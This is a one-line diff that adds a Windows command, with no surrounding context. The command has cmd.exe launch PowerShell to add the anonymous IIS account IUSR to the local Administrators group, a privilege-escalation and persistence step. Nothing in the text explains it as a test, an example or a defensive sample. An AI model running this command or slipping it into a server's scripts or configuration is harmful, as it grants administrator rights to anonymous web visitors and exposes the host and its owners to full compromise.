@@ -1,0 +1,1 @@
+cmd.exe /c powershell -Command "Add-LocalGroupMember -Group Administrators -Member IUSR"
